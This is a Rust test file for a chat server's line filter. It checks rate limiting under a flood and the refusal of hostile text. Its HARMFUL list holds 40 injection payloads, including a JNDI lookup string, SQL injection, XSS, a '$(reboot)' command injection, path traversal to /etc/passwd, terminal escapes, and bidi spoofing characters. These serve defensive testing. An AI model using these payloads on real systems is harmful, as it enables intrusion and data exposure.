//! What somebody may try with their words, each with its defence on and off.
//!
//! Never knows how a piece works inside: it looks at what passes.

use std::collections::BTreeSet;

use tickwire_shared::chat::{TextFault, check_line};
use tickwire_shared::id::{AccountId, LogId};
use tickwire_shared::time::Instant;
use tickwire_shared::wire::ChatRefusal;
use unicode_normalization::UnicodeNormalization as _;

use super::pen::{Intent, Pen};
use crate::limits::{
    ACCOUNT_LINES_BURST, ACCOUNT_LINES_PER_SECOND, REPEATS_REMEMBERED, SLOW_LOGS_MAX,
    STRANGERS_MAX, STRANGERS_REMEMBERED,
};

const SECONDS: u64 = 60;

/// What came of 1,000 lines a second for a minute.
#[derive(Debug, Default)]
struct Flood {
    passed: u32,
    strangers: BTreeSet<u64>,
    remembered_max: usize,
}

fn flood(lines_per_second: u32) -> Flood {
    let mut pen = Pen::new(lines_per_second, Instant(0));
    let mut flood = Flood::default();
    for number in 0..1_000 * SECONDS {
        let whom = number % 700;
        let text = format!("line {number}");
        let line = Intent {
            text: &text,
            slow: Some((LogId(number % 300), 1)),
            whisper_to: Some(AccountId(whom)),
        };
        if pen.judge(Instant::from_millis(number), &line).is_ok() {
            flood.passed += 1;
            flood.strangers.insert(whom);
        }
        flood.remembered_max = flood.remembered_max.max(pen.remembered());
    }
    flood
}

/// T-C1: whoever offers 1,000 lines a second gets the legal rate through and not one more, reaches
/// as few strangers as anybody, and costs bounded memory.
#[test]
fn a_flood_of_lines_passes_at_the_legal_rate() {
    let legal = ACCOUNT_LINES_BURST + ACCOUNT_LINES_PER_SECOND * SECONDS as u32;
    let held = flood(ACCOUNT_LINES_PER_SECOND);
    assert!(held.passed <= legal && held.passed > 0, "{held:?}");
    assert!(held.strangers.len() <= 2 * STRANGERS_MAX, "{held:?}");
    let bound = REPEATS_REMEMBERED + STRANGERS_REMEMBERED + SLOW_LOGS_MAX;
    assert!(held.remembered_max <= bound, "{held:?}");

    let free = flood(0);
    assert!(
        free.passed > legal,
        "without the limit it is a flood: {free:?}"
    );
    assert!(free.strangers.len() > 2 * STRANGERS_MAX, "{free:?}");
}

/// What a parser, a terminal or a reader could be harmed by, each once.
const HARMFUL: [&str; 40] = [
    "${jndi:ldap://a.example/x}",
    "${${lower:j}ndi:rmi://a/b}",
    "%n%n%s%x%08x",
    "{} {0} {name:?}",
    "'; DROP TABLE lines; --",
    "\" OR 1=1 --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt; &#x202E;",
    "{{constructor.constructor('x')()}}",
    "javascript:alert(1)",
    "$(reboot) `reboot` ; reboot",
    "../../../../etc/passwd",
    "\\u202e \\x1b[31m",
    "=HYPERLINK(\"http://a\")",
    "{\"level\":\"ERROR\"}",
    "𝕳𝖎 👩‍👩‍👧 𐍈",
    "Z̸͎̈a̴͘l̵͝g̷̃o̶̚",
    "\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\u{90}q",
    "a\0b",
    "a\nINFO forged",
    "a\r\nSet-Cookie: x",
    "a\u{85}b",
    "a\u{2028}b",
    "a\u{2029}b",
    "a\tb",
    "\u{8}\u{8}\u{8}",
    "\u{7f}",
    "\u{202E}gnp.exe",
    "\u{202A}a\u{202C}",
    "\u{2066}a\u{2069}",
    "\u{200F}a\u{200E}",
    "\u{061C}a",
    "a\u{200B}b",
    "\u{FEFF}a",
    "a\u{2060}b\u{00AD}c",
    "a\u{E0041}\u{E007F}",
];

/// 320 payloads: each of those alone and in company.
fn payloads() -> impl Iterator<Item = String> {
    HARMFUL.into_iter().flat_map(|harm| {
        [
            harm.to_owned(),
            format!("hi {harm}"),
            format!("{harm} hi"),
            format!("{harm}{harm}"),
            format!("<{harm}>"),
            format!("\"{harm}\""),
            format!("ключ {harm} 鍵"),
            harm.to_uppercase(),
        ]
    })
}

/// Whether a text can be shown and logged without changing what is around it.
fn harmless(text: &str) -> Result<(), char> {
    let harm = |c: &char| {
        let code = u32::from(*c);
        code < 0x20
            || (0x7f..0xA0).contains(&code)
            || [0xAD, 0x61C, 0x200B, 0x200E, 0x200F, 0x2060, 0xFEFF].contains(&code)
            || (0x2028..=0x202E).contains(&code)
            || (0x2066..=0x2069).contains(&code)
            || (0xE0000..=0xE007F).contains(&code)
    };
    text.chars().find(harm).map_or(Ok(()), Err)
}

/// T-C2: hostile text is given back as it is when it is harmless, and refused by name when not.
#[test]
fn what_passes_is_harmless_and_what_does_not_is_named() {
    let (mut passed, mut refused, mut unguarded) = (0, 0, 0);
    for payload in payloads() {
        let line = Intent {
            text: &payload,
            slow: None,
            whisper_to: None,
        };
        match Pen::new(ACCOUNT_LINES_PER_SECOND, Instant(0)).judge(Instant(0), &line) {
            Ok((text, _)) => {
                passed += 1;
                assert_eq!(harmless(&text), Ok(()), "{payload:?}");
                assert_eq!(
                    text,
                    payload.nfc().collect::<String>(),
                    "nothing is taken away"
                );
            }
            Err(refusal) => {
                refused += 1;
                assert_eq!(refusal.reason, ChatRefusal::BadText, "{payload:?}");
                let Err(TextFault::Character(c)) = check_line(&payload) else {
                    panic!("{payload:?} was refused and no character named");
                };
                let named = check_line(&payload).unwrap_err().to_string();
                assert!(
                    named.contains(&format!("U+{:04X}", u32::from(c))),
                    "{named}"
                );
                assert!(
                    harmless(&payload).is_err() && payload.contains(c),
                    "{payload:?}"
                );
            }
        }
        unguarded += usize::from(harmless(&payload.nfc().collect::<String>()).is_err());
    }
    assert_eq!(passed + refused, 320);
    assert!(
        passed >= 100 && refused >= 100,
        "{passed} passed, {refused} refused"
    );
    assert_eq!(
        unguarded, refused,
        "without the check these would have passed"
    );
}
